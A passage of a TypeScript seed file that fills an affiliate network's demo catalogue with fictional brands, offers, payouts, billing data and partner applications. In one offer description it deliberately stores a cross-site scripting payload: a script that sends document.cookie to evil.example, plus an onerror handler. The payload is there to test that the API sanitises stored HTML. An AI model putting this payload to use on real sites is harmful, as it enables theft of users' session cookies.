import type { FileStorage } from '../lib/storage.js';
import { randomToken } from '../lib/tokens.js';
import type { DbOrTx } from '../db/client.js';
import * as repo from './catalogue.repository.js';
import { bannerPng, offerPicturePng, productLogoPng } from './offer-pictures.js';
import { storePicture } from './pictures.js';
import { seedGoals } from './reference.js';
import { seededRandom, type SeededRandom } from '../lib/seeded-random.js';

// ---------------------------------------------------------------- the demo catalogue

/** Country groups an offer runs in (1 to 40 countries). */
const GEOS: Record<string, string[]> = {
  FR: ['FR'],
  DE: ['DE'],
  IT: ['IT'],
  PL: ['PL'],
  US: ['US'],
  CA: ['CA'],
  UK: ['GB', 'IE'],
  DACH: ['DE', 'AT', 'CH'],
  BENELUX: ['BE', 'NL', 'LU'],
  IBERIA: ['ES', 'PT'],
  NORDICS: ['SE', 'NO', 'DK', 'FI'],
  LATAM: ['BR', 'MX', 'AR', 'CL', 'CO', 'PE'],
  APAC: ['JP', 'KR', 'SG', 'MY', 'TH', 'ID', 'PH', 'VN', 'AU', 'NZ'],
  TIER1: ['US', 'CA', 'GB', 'AU', 'NZ', 'IE'],
  EU: [
    'AT',
    'BE',
    'BG',
    'HR',
    'CY',
    'CZ',
    'DK',
    'EE',
    'FI',
    'FR',
    'DE',
    'GR',
    'HU',
    'IE',
    'IT',
    'LV',
    'LT',
    'LU',
    'MT',
    'NL',
    'PL',
    'PT',
    'RO',
    'SK',
    'SI',
    'ES',
    'SE',
  ],
  WW: [
    'US',
    'CA',
    'MX',
    'BR',
    'AR',
    'CL',
    'CO',
    'GB',
    'IE',
    'FR',
    'DE',
    'AT',
    'CH',
    'BE',
    'NL',
    'LU',
    'ES',
    'PT',
    'IT',
    'SE',
    'NO',
    'DK',
    'FI',
    'PL',
    'CZ',
    'RO',
    'GR',
    'TR',
    'AE',
    'SA',
    'ZA',
    'NG',
    'IN',
    'JP',
    'KR',
    'SG',
    'TH',
    'ID',
    'AU',
    'NZ',
  ],
};

type Variant = { geo: keyof typeof GEOS; type: string; flow: string };
type Brand = {
  brand: string;
  advertiser: string;
  productType: 'web' | 'app' | 'ios' | 'android';
  domain: string;
  verticals: string[];
  currency?: string;
  style: { from: string; to: string; glyph: string };
  variants: [Variant, Variant];
};

/** 32 brands × 2 offers: every vertical and every conversion type is present. */
const BRANDS: Brand[] = [
  {
    brand: 'LunaDate',
    advertiser: 'Amora Group',
    productType: 'web',
    domain: 'lunadate.example',
    verticals: ['dating'],
    style: { from: '#e64980', to: '#ae3ec9', glyph: 'heart' },
    variants: [
      { geo: 'FR', type: 'cpl', flow: 'SOI' },
      { geo: 'DACH', type: 'cpa', flow: 'Premium' },
    ],
  },
  {
    brand: 'HeartLink',
    advertiser: 'Amora Group',
    productType: 'ios',
    domain: 'heartlink.example',
    verticals: ['dating', 'mobile_apps'],
    style: { from: '#f06595', to: '#fa5252', glyph: 'heart' },
    variants: [
      { geo: 'TIER1', type: 'cpi', flow: 'iOS Install' },
      { geo: 'NORDICS', type: 'cpl', flow: 'DOI' },
    ],
  },
  {
    brand: 'PixelQuest',
    advertiser: 'Nordlight Games',
    productType: 'android',
    domain: 'pixelquest.example',
    verticals: ['gaming', 'mobile_apps'],
    style: { from: '#4263eb', to: '#15aabf', glyph: 'controller' },
    variants: [
      { geo: 'WW', type: 'cpi', flow: 'Android Install' },
      { geo: 'EU', type: 'cpa', flow: 'Level 10' },
    ],
  },
  {
    brand: 'Kingdom Clash',
    advertiser: 'Nordlight Games',
    productType: 'web',
    domain: 'kingdomclash.example',
    verticals: ['gaming'],
    style: { from: '#364fc7', to: '#7048e8', glyph: 'controller' },
    variants: [
      { geo: 'DE', type: 'cpl', flow: 'Registration' },
      { geo: 'US', type: 'cps', flow: 'In-game Purchases' },
    ],
  },
  {
    brand: 'BetNova',
    advertiser: 'Nova Sports Ltd',
    productType: 'web',
    domain: 'betnova.example',
    verticals: ['betting'],
    style: { from: '#2b8a3e', to: '#74b816', glyph: 'ball' },
    variants: [
      { geo: 'UK', type: 'cpa', flow: 'FTD' },
      { geo: 'IBERIA', type: 'cps', flow: 'RevShare' },
    ],
  },
  {
    brand: 'GoalRush',
    advertiser: 'Nova Sports Ltd',
    productType: 'android',
    domain: 'goalrush.example',
    verticals: ['betting', 'mobile_apps'],
    style: { from: '#087f5b', to: '#20c997', glyph: 'ball' },
    variants: [
      { geo: 'LATAM', type: 'cpa', flow: 'FTD' },
      { geo: 'IT', type: 'cpi', flow: 'App Install' },
    ],
  },
  {
    brand: 'Royal Spin',
    advertiser: 'Crown Leisure',
    productType: 'web',
    domain: 'royalspin.example',
    verticals: ['casino'],
    style: { from: '#862e9c', to: '#e8590c', glyph: 'chip' },
    variants: [
      { geo: 'CA', type: 'cpa', flow: 'FTD' },
      { geo: 'NORDICS', type: 'cps', flow: 'RevShare' },
    ],
  },
  {
    brand: 'Lucky Harbor',
    advertiser: 'Crown Leisure',
    productType: 'web',
    domain: 'luckyharbor.example',
    verticals: ['casino'],
    style: { from: '#5f3dc4', to: '#f59f00', glyph: 'chip' },
    variants: [
      { geo: 'DE', type: 'cpl', flow: 'Registration' },
      { geo: 'APAC', type: 'cpa', flow: 'FTD' },
    ],
  },
  {
    brand: 'Budgetly Loans',
    advertiser: 'Budgetly Finance',
    productType: 'web',
    domain: 'budgetly.example',
    verticals: ['finance'],
    currency: 'GBP',
    style: { from: '#1864ab', to: '#0ca678', glyph: 'coin' },
    variants: [
      { geo: 'UK', type: 'cpl', flow: 'Loan Application' },
      { geo: 'UK', type: 'cpa', flow: 'Funded Loan' },
    ],
  },
  {
    brand: 'Kapital Card',
    advertiser: 'Kapital Bank',
    productType: 'web',
    domain: 'kapitalcard.example',
    verticals: ['finance'],
    style: { from: '#0b7285', to: '#1c7ed6', glyph: 'coin' },
    variants: [
      { geo: 'FR', type: 'cpa', flow: 'Card Activation' },
      { geo: 'BENELUX', type: 'cpl', flow: 'Application' },
    ],
  },
  {
    brand: 'CoinVault',
    advertiser: 'CoinVault Exchange',
    productType: 'web',
    domain: 'coinvault.example',
    verticals: ['crypto', 'finance'],
    currency: 'USD',
    style: { from: '#f08c00', to: '#e8590c', glyph: 'chain' },
    variants: [
      { geo: 'WW', type: 'cpa', flow: 'Verified Trader' },
      { geo: 'EU', type: 'cps', flow: 'Trading Fees RevShare' },
    ],
  },
  {
    brand: 'BitHarbor Wallet',
    advertiser: 'CoinVault Exchange',
    productType: 'ios',
    domain: 'bitharbor.example',
    verticals: ['crypto', 'mobile_apps'],
    currency: 'USD',
    style: { from: '#e67700', to: '#fab005', glyph: 'chain' },
    variants: [
      { geo: 'US', type: 'cpi', flow: 'iOS Install' },
      { geo: 'TIER1', type: 'cpl', flow: 'KYC Started' },
    ],
  },
  {
    brand: 'SecureHome',
    advertiser: 'Assura Mutuelle',
    productType: 'web',
    domain: 'securehome.example',
    verticals: ['insurance'],
    style: { from: '#1971c2', to: '#4dabf7', glyph: 'shield' },
    variants: [
      { geo: 'FR', type: 'cpl', flow: 'Home Insurance Quote' },
      { geo: 'BENELUX', type: 'cpa', flow: 'Policy Signed' },
    ],
  },
  {
    brand: 'DriveSafe',
    advertiser: 'Assura Mutuelle',
    productType: 'web',
    domain: 'drivesafe.example',
    verticals: ['insurance'],
    style: { from: '#1098ad', to: '#3bc9db', glyph: 'shield' },
    variants: [
      { geo: 'DE', type: 'cpl', flow: 'Car Insurance Quote' },
      { geo: 'IT', type: 'cpl', flow: 'Car Insurance Quote' },
    ],
  },
  {
    brand: 'KetoSlim',
    advertiser: 'VitaLab',
    productType: 'web',
    domain: 'ketoslim.example',
    verticals: ['nutra'],
    style: { from: '#37b24d', to: '#a9e34b', glyph: 'leaf' },
    variants: [
      { geo: 'EU', type: 'cpa', flow: 'COD Order' },
      { geo: 'PL', type: 'cps', flow: 'Webshop' },
    ],
  },
  {
    brand: 'FlexiJoint',
    advertiser: 'VitaLab',
    productType: 'web',
    domain: 'flexijoint.example',
    verticals: ['nutra', 'health_beauty'],
    style: { from: '#2f9e44', to: '#66a80f', glyph: 'leaf' },
    variants: [
      { geo: 'IBERIA', type: 'cpa', flow: 'COD Order' },
      { geo: 'LATAM', type: 'cpl', flow: 'Lead' },
    ],
  },
  {
    brand: 'GlowSkin',
    advertiser: 'Belle & Co',
    productType: 'web',
    domain: 'glowskin.example',
    verticals: ['health_beauty'],
    style: { from: '#f783ac', to: '#e599f7', glyph: 'star' },
    variants: [
      { geo: 'FR', type: 'cps', flow: 'Webshop' },
      { geo: 'DACH', type: 'cps', flow: 'Subscription Box' },
    ],
  },
  {
    brand: 'SmileBright',
    advertiser: 'Belle & Co',
    productType: 'web',
    domain: 'smilebright.example',
    verticals: ['health_beauty'],
    style: { from: '#da77f2', to: '#748ffc', glyph: 'star' },
    variants: [
      { geo: 'US', type: 'cpl', flow: 'Free Consultation' },
      { geo: 'UK', type: 'cpa', flow: 'Aligner Kit' },
    ],
  },
  {
    brand: 'Win an iPhone 16',
    advertiser: 'PrizePanda',
    productType: 'web',
    domain: 'prizepanda.example',
    verticals: ['sweepstakes'],
    style: { from: '#fd7e14', to: '#fa5252', glyph: 'gift' },
    variants: [
      { geo: 'FR', type: 'cpl', flow: 'SOI' },
      { geo: 'TIER1', type: 'cpl', flow: 'DOI' },
    ],
  },
  {
    brand: 'Gift Card Giveaway',
    advertiser: 'PrizePanda',
    productType: 'web',
    domain: 'giftgiveaway.example',
    verticals: ['sweepstakes'],
    currency: 'USD',
    style: { from: '#f76707', to: '#fcc419', glyph: 'gift' },
    variants: [
      { geo: 'US', type: 'cpc', flow: 'Click' },
      { geo: 'CA', type: 'cpl', flow: 'Email Submit' },
    ],
  },
  {
    brand: 'StyleHub',
    advertiser: 'StyleHub Retail',
    productType: 'web',
    domain: 'stylehub.example',
    verticals: ['ecommerce'],
    style: { from: '#212529', to: '#868e96', glyph: 'bag' },
    variants: [
      { geo: 'EU', type: 'cps', flow: 'Fashion Sales' },
      { geo: 'FR', type: 'cpc', flow: 'Catalogue Clicks' },
    ],
  },
  {
    brand: 'GadgetDeals',
    advertiser: 'TechCart',
    productType: 'web',
    domain: 'gadgetdeals.example',
    verticals: ['ecommerce'],
    style: { from: '#343a40', to: '#228be6', glyph: 'bag' },
    variants: [
      { geo: 'DACH', type: 'cps', flow: 'Electronics Sales' },
      { geo: 'UK', type: 'cpc', flow: 'Deal Clicks' },
    ],
  },
  {
    brand: 'LinguaPro',
    advertiser: 'LinguaPro Learning',
    productType: 'app',
    domain: 'linguapro.example',
    verticals: ['education', 'mobile_apps'],
    style: { from: '#7950f2', to: '#4c6ef5', glyph: 'book' },
    variants: [
      { geo: 'WW', type: 'cpl', flow: 'Free Trial' },
      { geo: 'EU', type: 'cpa', flow: 'Annual Plan' },
    ],
  },
  {
    brand: 'CodeCamp Online',
    advertiser: 'LinguaPro Learning',
    productType: 'web',
    domain: 'codecamp.example',
    verticals: ['education'],
    style: { from: '#5c7cfa', to: '#22b8cf', glyph: 'book' },
    variants: [
      { geo: 'US', type: 'cpl', flow: 'Course Sign-up' },
      { geo: 'FR', type: 'cpa', flow: 'Bootcamp Enrolment' },
    ],
  },
  {
    brand: 'TripNest',
    advertiser: 'TripNest Travel',
    productType: 'web',
    domain: 'tripnest.example',
    verticals: ['travel'],
    style: { from: '#0c8599', to: '#38d9a9', glyph: 'plane' },
    variants: [
      { geo: 'EU', type: 'cps', flow: 'Hotel Bookings' },
      { geo: 'WW', type: 'cpc', flow: 'Search Clicks' },
    ],
  },
  {
    brand: 'FlyCheap',
    advertiser: 'TripNest Travel',
    productType: 'web',
    domain: 'flycheap.example',
    verticals: ['travel'],
    style: { from: '#1c7ed6', to: '#66d9e8', glyph: 'plane' },
    variants: [
      { geo: 'IBERIA', type: 'cpc', flow: 'Flight Search' },
      { geo: 'IT', type: 'cps', flow: 'Flight Bookings' },
    ],
  },
  {
    brand: 'FitPulse',
    advertiser: 'Pulse Apps',
    productType: 'android',
    domain: 'fitpulse.example',
    verticals: ['mobile_apps', 'health_beauty'],
    style: { from: '#e03131', to: '#ff8787', glyph: 'phone' },
    variants: [
      { geo: 'EU', type: 'cpi', flow: 'Android Install' },
      { geo: 'US', type: 'cpa', flow: 'Premium Trial' },
    ],
  },
  {
    brand: 'PhotoMagic',
    advertiser: 'Pulse Apps',
    productType: 'ios',
    domain: 'photomagic.example',
    verticals: ['mobile_apps'],
    style: { from: '#c2255c', to: '#f783ac', glyph: 'phone' },
    variants: [
      { geo: 'APAC', type: 'cpi', flow: 'iOS Install' },
      { geo: 'TIER1', type: 'cpi', flow: 'iOS Install' },
    ],
  },
  {
    brand: 'ShieldVPN',
    advertiser: 'Shield Software',
    productType: 'web',
    domain: 'shieldvpn.example',
    verticals: ['utilities'],
    currency: 'USD',
    style: { from: '#495057', to: '#15aabf', glyph: 'shield' },
    variants: [
      { geo: 'WW', type: 'cps', flow: 'Subscriptions' },
      { geo: 'TIER1', type: 'cpa', flow: 'Free Trial' },
    ],
  },
  {
    brand: 'CleanMaster PC',
    advertiser: 'Shield Software',
    productType: 'web',
    domain: 'cleanmaster.example',
    verticals: ['utilities'],
    currency: 'USD',
    style: { from: '#2b8a3e', to: '#495057', glyph: 'gear' },
    variants: [
      { geo: 'US', type: 'cpi', flow: 'Desktop Install' },
      { geo: 'EU', type: 'cpa', flow: 'Licence Sale' },
    ],
  },
  {
    brand: 'SafeBrowse',
    advertiser: 'Shield Software',
    productType: 'app',
    domain: 'safebrowse.example',
    verticals: ['utilities', 'mobile_apps'],
    style: { from: '#1864ab', to: '#495057', glyph: 'gear' },
    variants: [
      { geo: 'DACH', type: 'cpi', flow: 'Extension Install' },
      { geo: 'NORDICS', type: 'cpa', flow: 'Antivirus Sale' },
    ],
  },
  {
    brand: 'MealBox',
    advertiser: 'MealBox SAS',
    productType: 'web',
    domain: 'mealbox.example',
    verticals: ['ecommerce', 'nutra'],
    style: { from: '#e8590c', to: '#fab005', glyph: 'bag' },
    variants: [
      { geo: 'FR', type: 'cpa', flow: 'First Box' },
      { geo: 'BENELUX', type: 'cpc', flow: 'Menu Clicks' },
    ],
  },
];

/**
 * Offers tests and end-to-end specs may rely on (names are exact):
 * - 'LunaDate – FR – SOI': public, no approval, Northwind has no application (status public).
 * - 'Royal Spin – CA – FTD': requires approval; Northwind's application is pending.
 * - 'Budgetly Loans – UK – Loan Application': requires approval; Northwind's application is active.
 * - 'Kapital Card – FR – Card Activation': private; Northwind's application is active (visible to Northwind only).
 * - 'CoinVault – WW – Verified Trader': requires approval; Northwind's application was refused.
 * - 'BetNova – UK – FTD', 'SecureHome – FR – Home Insurance Quote', 'TripNest – EU – Hotel Bookings':
 *   require approval, no application from either demo partner (apply_to_run: free for apply flows).
 * - 'CoinVault – EU – Trading Fees RevShare': private, no application: hidden from every demo partner.
 * - 'Gift Card Giveaway – CA – Email Submit': disabled, never listed.
 * - 'GlowSkin – FR – Webshop': its stored description carries a <script> and an onerror attribute.
 * - 'Gift Card Giveaway – US – Click': no registration or validation goal (no registration payout).
 */
/** A believable advertiser revenue for a payout: 10 to 40 % above it, varying by goal, rounded half up. */
const withMargin = (payout: number | null, i: number) =>
  payout === null ? null : Math.floor((payout * (110 + ((i * 7) % 31)) + 50) / 100);

export const DEMO_OFFERS = {
  public: 'LunaDate – FR – SOI',
  pending: 'Royal Spin – CA – FTD',
  active: 'Budgetly Loans – UK – Loan Application',
  activePrivate: 'Kapital Card – FR – Card Activation',
  refused: 'CoinVault – WW – Verified Trader',
  applyToRun: ['BetNova – UK – FTD', 'SecureHome – FR – Home Insurance Quote', 'TripNest – EU – Hotel Bookings'],
  hiddenPrivate: 'CoinVault – EU – Trading Fees RevShare',
  disabled: 'Gift Card Giveaway – CA – Email Submit',
  unsafeHtml: 'GlowSkin – FR – Webshop',
  noPayout: 'Gift Card Giveaway – US – Click',
} as const;

const NORTHWIND_APPLICATIONS: [string, 'pending' | 'active' | 'refused'][] = [
  [DEMO_OFFERS.pending, 'pending'],
  ['Lucky Harbor – APAC – FTD', 'pending'],
  ['SmileBright – UK – Aligner Kit', 'pending'],
  ['LinguaPro – EU – Annual Plan', 'pending'],
  [DEMO_OFFERS.active, 'active'],
  [DEMO_OFFERS.activePrivate, 'active'],
  ['KetoSlim – EU – COD Order', 'active'],
  ['StyleHub – EU – Fashion Sales', 'active'],
  [DEMO_OFFERS.refused, 'refused'],
  ['PixelQuest – EU – Level 10', 'refused'],
];
const BLUEBIRD_APPLICATIONS: [string, 'pending' | 'active' | 'refused'][] = [
  ['PixelQuest – EU – Level 10', 'active'],
  ['Royal Spin – CA – FTD', 'pending'],
];

const PRIVATE = new Set<string>([
  DEMO_OFFERS.activePrivate,
  DEMO_OFFERS.hiddenPrivate,
  'Lucky Harbor – DE – Registration',
  'PhotoMagic – TIER1 – iOS Install',
  'ShieldVPN – TIER1 – Free Trial',
]);
const DISABLED = new Set<string>([
  DEMO_OFFERS.disabled,
  'DriveSafe – IT – Car Insurance Quote',
  'FlyCheap – IT – Flight Bookings',
  'PhotoMagic – APAC – iOS Install',
]);
const NEEDS_APPROVAL = new Set<string>([
  ...NORTHWIND_APPLICATIONS.map(([name]) => name),
  ...BLUEBIRD_APPLICATIONS.map(([name]) => name),
  ...DEMO_OFFERS.applyToRun,
  DEMO_OFFERS.hiddenPrivate,
  'Kingdom Clash – US – In-game Purchases',
  'GoalRush – LATAM – FTD',
  'FlexiJoint – IBERIA – COD Order',
  'CleanMaster PC – EU – Licence Sale',
  'MealBox – FR – First Box',
]);

type Tier = { amount: number | null; percent: number | null };
type GoalPlan = { goal: string; p1: Tier; p2?: Tier; private?: boolean };

/** Realistic payouts per conversion type; amounts in minor units, percentages in basis points. */
function goalsFor(type: string, name: string, rnd: SeededRandom): GoalPlan[] {
  const amount = (min: number, max: number, step: number) => ({
    amount: rnd.int(min / step, max / step) * step,
    percent: null,
  });
  const percent = (min: number, max: number) => ({ amount: null, percent: rnd.int(min / 50, max / 50) * 50 });
  const premium = (tier: Tier): Tier | undefined =>
    rnd.chance(0.3)
      ? {
          amount: tier.amount && Math.round(tier.amount * 1.2),
          percent: tier.percent && Math.round(tier.percent * 1.2),
        }
      : undefined;
  const withPremium = (goal: string, p1: Tier, extra: Partial<GoalPlan> = {}): GoalPlan => {
    const p2 = premium(p1);
    return { goal, p1, ...(p2 ? { p2 } : {}), ...extra };
  };
  if (name === DEMO_OFFERS.noPayout) return [withPremium('click', amount(5, 40, 1))];
  switch (type) {
    case 'cpl':
      return [
        withPremium('registration', amount(150, 2500, 10)),
        ...(rnd.chance(0.5) ? [withPremium('validation', amount(2500, 6000, 50))] : []),
        ...(rnd.chance(0.3) ? [withPremium('lead', amount(300, 1500, 10), { private: true })] : []),
      ];
    case 'cpa':
      // Half of the CPA offers pay nothing on registration: their payout falls back to the validation goal.
      return [
        ...(rnd.chance(0.5) ? [withPremium('registration', amount(200, 1500, 50))] : []),
        withPremium('validation', amount(3000, 25000, 500)),
        withPremium('first_deposit', amount(5000, 30000, 500)),
      ];
    case 'cps':
      return [withPremium('registration', percent(1000, 4500)), withPremium('sale', percent(500, 4000))];
    case 'cpi':
      return [withPremium('registration', amount(60, 450, 5)), withPremium('install', amount(50, 400, 5))];
    default:
      return [withPremium('registration', amount(10, 60, 1)), withPremium('click', amount(5, 40, 1))];
  }
}

function descriptionOf(
  brand: Brand,
  variant: Variant,
  name: string,
  countries: string[],
): { html: string; text: string } {
  const payoutLine: Record<string, string> = {
    cpl: 'a fixed payout on each registration',
    cpa: 'a fixed payout on each validated action',
    cps: 'a share of every sale',
    cpi: 'a fixed payout on each install',
    cpc: 'a fixed payout on each qualified click',
  };
  const geoText = countries.length > 6 ? `${countries.length} countries` : countries.join(', ');
  const intro = `<p><strong>${brand.brand}</strong> by ${brand.advertiser}: ${variant.flow} flow, ${payoutLine[variant.type]} in ${geoText}.</p>`;
  const allowed = `<h4>Allowed traffic</h4><ul><li>SEO and content sites</li><li>Social media (no brand bidding)</li><li>${variant.type === 'cpi' ? 'In-app and rewarded video' : 'E-mail (approved creatives only)'}</li></ul>`;
  const rules = `<h4>Restrictions</h4><ol><li>No incentivised traffic</li><li>No adult content</li><li>Conversions are validated within <em>30 days</em></li></ol>`;
  const links = `<p>Landing page: <a href="https://www.${brand.domain}/">${brand.domain}</a>. Questions? Ask your account manager.</p>`;
  // One stored description is hostile on purpose: the API must clean it on the way out.
  const hostile =
    name === DEMO_OFFERS.unsafeHtml
      ? `<script>document.location='https://evil.example/?c='+document.cookie</script><img src="https://evil.example/x.png" onerror="alert('xss')">`
      : '';
  const html = intro + hostile + allowed + rules + links;
  const text = `${brand.brand} by ${brand.advertiser}: ${variant.flow} flow in ${geoText}. Allowed traffic: SEO, social, e-mail. No incentivised traffic.`;
  return { html, text };
}

const initialsOf = (brand: string) =>
  brand
    .split(/\s+/)
    .map((word) => word[0])
    .join('')
    .slice(0, 2)
    .toUpperCase();

export type CataloguePictures = {
  offerImages: Buffer[];
  logos: Buffer[];
  /** Per brand, its 300×250 and 728×90 banners (decision 050). */
  banners: [Buffer, Buffer][];
};

/** Renders the catalogue's pictures (one per brand, shared by its two offers): done before the transaction. */
export async function renderCataloguePictures(): Promise<CataloguePictures> {
  const [offerImages, logos, banners] = await Promise.all([
    Promise.all(BRANDS.map((b) => offerPicturePng(b.brand, b.style))),
    Promise.all(BRANDS.map((b) => productLogoPng(initialsOf(b.brand), b.style.from))),
    Promise.all(
      BRANDS.map(async (b) => [await bannerPng(b.brand, b.style, 300, 250), await bannerPng(b.brand, b.style, 728, 90)] as [Buffer, Buffer]), // prettier-ignore
    ),
  ]);
  return { offerImages, logos, banners };
}

/**
 * How the network invoices each demo advertiser (decision 073): the three VAT cases (French; EU businesses with a VAT
 * number, reverse charge; outside the EU, no VAT; and an EU advertiser without a number, French VAT) and a few terms
 * other than net 30. The VAT numbers are made up in each country's format.
 */
const ADVERTISER_BILLING: Record<string, { country: string; vatNumber: string | null; billingAddress: string; billingTerms?: string }> = {
  'Amora Group': { country: 'FR', vatNumber: 'FR40303265045', billingAddress: '12 rue de la Paix\n75002 Paris' },
  'Assura Mutuelle': { country: 'BE', vatNumber: 'BE0403170701', billingAddress: 'Avenue Louise 54\n1050 Bruxelles' },
  'Belle & Co': { country: 'FR', vatNumber: 'FR83404833048', billingAddress: '8 avenue Montaigne\n75008 Paris' },
  'Budgetly Finance': { country: 'IE', vatNumber: 'IE6388047V', billingAddress: '1 Grand Canal Square\nDublin 2, D02 P820' },
  'CoinVault Exchange': { country: 'CH', vatNumber: 'CHE-123.456.788MWST', billingAddress: 'Bahnhofstrasse 10\n8001 Zürich' },
  'Crown Leisure': { country: 'GB', vatNumber: 'GB123456789', billingAddress: '1 Canada Square\nLondon E14 5AB', billingTerms: 'net15' },
  'Kapital Bank': { country: 'DE', vatNumber: 'DE811128135', billingAddress: 'Taunusanlage 12\n60325 Frankfurt am Main' },
  'LinguaPro Learning': { country: 'ES', vatNumber: 'ESB12345674', billingAddress: 'Calle de Alcalá 42\n28014 Madrid' },
  'MealBox SAS': { country: 'FR', vatNumber: 'FR21552100554', billingAddress: '24 quai Saint-Antoine\n69002 Lyon', billingTerms: 'net15' },
  'Nordlight Games': { country: 'SE', vatNumber: 'SE556677889901', billingAddress: 'Drottninggatan 5\n111 51 Stockholm' },
  'Nova Sports Ltd': { country: 'GB', vatNumber: 'GB987654321', billingAddress: '20 Deansgate\nManchester M3 1AZ' },
  PrizePanda: { country: 'US', vatNumber: null, billingAddress: '500 Howard Street\nSan Francisco, CA 94105' },
  'Pulse Apps': { country: 'US', vatNumber: null, billingAddress: '300 Congress Avenue\nAustin, TX 78701' },
  'Shield Software': { country: 'NL', vatNumber: 'NL123456789B01', billingAddress: 'Herengracht 100\n1015 BS Amsterdam' },
  'StyleHub Retail': { country: 'IT', vatNumber: null, billingAddress: 'Via Monte Napoleone 8\n20121 Milano' },
  TechCart: { country: 'DE', vatNumber: 'DE129273398', billingAddress: 'Friedrichstraße 50\n10117 Berlin' },
  'TripNest Travel': { country: 'PT', vatNumber: 'PT501442600', billingAddress: 'Avenida da Liberdade 110\n1250-146 Lisboa', billingTerms: 'net60' },
  VitaLab: { country: 'FR', vatNumber: 'FR64417625639', billingAddress: '5 rue de la République\n13001 Marseille' },
}; // prettier-ignore

/** Seeds the demo catalogue (64 offers) and the demo partners' applications. */
export async function seedCatalogue(
  db: DbOrTx,
  storage: FileStorage,
  pictures: CataloguePictures,
  demoPartners: { northwindId: number; bluebirdId: number },
): Promise<void> {
  await seedGoals(db);
  const rnd = seededRandom(410);
  const { verticalRows, goalRows, tierRows } = await repo.referenceIds(db);
  const verticalId = new Map(verticalRows.map((v) => [v.identifier, v.id]));
  const goalId = new Map(goalRows.map((g) => [g.identifier, g.id]));
  const tierId = new Map(tierRows.map((g) => [g.identifier, g.id]));

  const advertiserNames = [...new Set(BRANDS.map((b) => b.advertiser))];
  const advertiserRows = await repo.insertAdvertisers(
    db,
    advertiserNames.map((name) => ({
      name,
      ...ADVERTISER_BILLING[name],
      // From the CSPRNG, never from data or code: a token anyone could compute would let them forge paid conversions.
      securityToken: randomToken(),
    })),
  );
  const advertiserId = new Map(advertiserRows.map((a) => [a.name, a.id]));

  const imageIds: number[] = [];
  const logoIds: number[] = [];
  for (const [i, brand] of BRANDS.entries()) {
    const slug = brand.domain.replace(/\..*$/, '');
    imageIds.push(await storePicture(db, storage, pictures.offerImages[i]!, 'offer_image', `${slug}.png`));
    logoIds.push(await storePicture(db, storage, pictures.logos[i]!, 'logo', `${slug}-logo.png`));
  }

  const productRows = await repo.insertProducts(
    db,
    BRANDS.map((b, i) => ({
      advertiserId: advertiserId.get(b.advertiser)!,
      identifier: b.domain.replace(/\..*$/, ''),
      type: b.productType,
      domain: b.domain,
      logoId: logoIds[i]!,
      cross: i % 5 === 0,
      coreg: i % 7 === 3,
    })),
  );

  const now = Date.now();
  const plans = BRANDS.flatMap((brand, b) =>
    brand.variants.map((variant) => {
      const name = `${brand.brand} – ${variant.geo} – ${variant.flow}`;
      const countries = GEOS[variant.geo]!;
      const { html, text } = descriptionOf(brand, variant, name, countries);
      return {
        name,
        countries,
        verticals: brand.verticals,
        goals: goalsFor(variant.type, name, rnd),
        row: {
          name,
          productId: productRows[b]!.id,
          conversionType: variant.type,
          descriptionHtml: html,
          descriptionText: text,
          previewUrl: `https://www.${brand.domain}/preview`,
          defaultUrl: `https://www.${brand.domain}/?aff={aff_id}&sub={subid}&cid={click_id}`,
          currency: brand.currency ?? 'EUR',
          private: PRIVATE.has(name),
          requireApproval: NEEDS_APPROVAL.has(name),
          enabled: !DISABLED.has(name),
          imageId: imageIds[b]!,
          // Spread over the last months, so that "newest first" means something.
          createdAt: new Date(now - rnd.int(1, 240) * 24 * 3600 * 1000),
        },
      };
    }),
  );
  const offerRows = await repo.insertOffers(
    db,
    plans.map((p) => p.row),
  );
  const offerId = new Map(offerRows.map((o) => [o.name, o.id]));

  await repo.insertOfferCountries(
    db,
    plans.flatMap((p) => p.countries.map((isoCode) => ({ offerId: offerId.get(p.name)!, isoCode }))),
  );
  await repo.insertOfferVerticals(
    db,
    plans.flatMap((p) => p.verticals.map((v) => ({ offerId: offerId.get(p.name)!, verticalId: verticalId.get(v)! }))),
  );
  const goalPlans = plans.flatMap((p) => p.goals.map((g) => ({ offerId: offerId.get(p.name)!, plan: g })));
  const offerGoalRows = await repo.insertOfferGoals(
    db,
    goalPlans.map(({ offerId: id, plan }, i) => ({
      offerId: id,
      goalId: goalId.get(plan.goal)!,
      private: plan.private ?? false,
      payoutAmount: plan.p1.amount,
      payoutPercent: plan.p1.percent,
      // What the advertiser pays: 10 to 40 % above the payout, the network's margin (decision 044).
      revenueAmount: withMargin(plan.p1.amount, i),
      revenuePercent: withMargin(plan.p1.percent, i),
    })),
  );
  await repo.insertOfferGoalTypes(
    db,
    goalPlans.flatMap(({ plan }, i) => [
      {
        offerGoalId: offerGoalRows[i]!.id,
        goalTypeId: tierId.get('p1')!,
        payoutAmount: plan.p1.amount,
        payoutPercent: plan.p1.percent,
      },
      ...(plan.p2
        ? [
            {
              offerGoalId: offerGoalRows[i]!.id,
              goalTypeId: tierId.get('p2')!,
              payoutAmount: plan.p2.amount,
              payoutPercent: plan.p2.percent,
            },
          ]
        : []),
    ]),
  );

  await seedCreatives(db, storage, pictures, plans.map((p, i) => ({ offerId: offerId.get(p.name)!, brand: BRANDS[Math.floor(i / 2)]!, index: i }))); // prettier-ignore

  const applications = [
    ...NORTHWIND_APPLICATIONS.map(([name, status]) => ({ partnerId: demoPartners.northwindId, name, status })),
    ...BLUEBIRD_APPLICATIONS.map(([name, status]) => ({ partnerId: demoPartners.bluebirdId, name, status })),
  ];
  await repo.insertPartnerOffers(
    db,
    applications.map(({ partnerId, name, status }, i) => {
      const id = offerId.get(name);
      if (!id) throw new Error(`catalogue: no offer named ${name}`);
      return {
        partnerId,
        offerId: id,
        status,
        createdAt: new Date(now - (applications.length - i) * 36 * 3600 * 1000),
      };
    }),
  );
}

/**
 * The demo's creatives and landing pages (decision 050): each brand's two banners (300×250, 728×90) on both its offers, an
 * HTML button and a text ad on every offer, an e-mail template on every other one, and a second landing page (a quiz
 * funnel) on three offers in four.
 */
/** Black or white, whichever reads better on a brand colour (WCAG relative luminance): demo creatives stay legible. */
function textOn(hex: string): string {
  const [r, g, b] = [1, 3, 5].map((i) => {
    const c = parseInt(hex.slice(i, i + 2), 16) / 255;
    return c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
  }) as [number, number, number];
  const luminance = 0.2126 * r + 0.7152 * g + 0.0722 * b;
  return 1.05 / (luminance + 0.05) >= (luminance + 0.05) / 0.05 ? '#fff' : '#000';
}

async function seedCreatives(
  db: DbOrTx,
  storage: FileStorage,
